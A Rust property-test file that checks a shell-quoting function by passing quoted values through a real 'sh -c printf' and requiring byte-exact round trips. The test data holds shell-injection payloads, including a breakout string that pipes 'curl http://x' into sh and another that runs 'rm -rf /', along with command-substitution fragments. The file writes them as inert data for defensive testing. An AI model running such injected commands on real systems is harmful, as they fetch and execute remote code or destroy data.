//! `strata_plan::sh::quote` against a real shell: every value strata quotes into a
//! `sh -c` command (build args, paths, package names, index URLs) must come back byte
//! for byte through `sh -c 'printf %s <quoted>'`, whatever shell metacharacters it
//! holds and however long it is. NUL bytes, which no shell word can hold, are dropped.
//! The fuzz target (fuzz/fuzz_targets/spec_to_llb.rs) checks the same with an in-process
//! word parser, millions of times; this is the ground truth, a few hundred times.

use std::process::Command;

use proptest::prelude::*;
use strata_plan::sh::quote;

/// What `sh -c "printf %s <quote(s)>"` prints.
fn through_sh(s: &str) -> Vec<u8> {
    let out = Command::new("sh")
        .arg("-c")
        .arg(format!("printf %s {}", quote(s)))
        .output()
        .expect("sh runs");
    assert!(
        out.status.success(),
        "sh failed on quote({s:?}) = {:?}: {}",
        quote(s),
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

fn want(s: &str) -> Vec<u8> {
    s.replace('\0', "").into_bytes()
}

/// Characters a shell gives a meaning to, and a few it does not.
fn hostile() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "'", "\"", "\\", "$", "`", "$(id)", "${HOME}", "$((1+1))", ";", "&", "&&", "|", "||", "<",
        ">", ">>", "(", ")", "{", "}", "[", "]", "*", "?", "~", "#", "!", "=", "%", "^", " ", "\t",
        "\n", "\r", "\0", "-", "--", "-n", "-e", "%s", "\\n", "é", "💥", "a", "Z9", "'\\''",
        "\"'\"", "\x1b[31m", "\u{7f}",
    ]);
    prop::collection::vec(pieces, 0..24).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn metacharacters_round_trip(s in hostile()) {
        prop_assert_eq!(through_sh(&s), want(&s));
    }

    #[test]
    fn any_text_round_trips(s in "\\PC{0,64}") {
        prop_assert_eq!(through_sh(&s), want(&s));
    }

    #[test]
    fn big_values_round_trip(s in hostile(), n in 1usize..2048) {
        // Up to ~100 KB: below Linux's 128 KiB limit on one argument (MAX_ARG_STRLEN),
        // which the quoted word plus `printf %s ` must fit in.
        let big: String = s.repeat(n).chars().take(100_000).collect();
        prop_assume!(quote(&big).len() < 120_000);
        prop_assert_eq!(through_sh(&big), want(&big));
    }
}

#[test]
fn the_breakout_of_issue_15_is_data() {
    let v = "1\"; curl http://x | sh; echo \"";
    assert_eq!(through_sh(v), v.as_bytes());
    assert_eq!(through_sh("'; rm -rf / #"), b"'; rm -rf / #");
    assert_eq!(through_sh(""), b"");
}
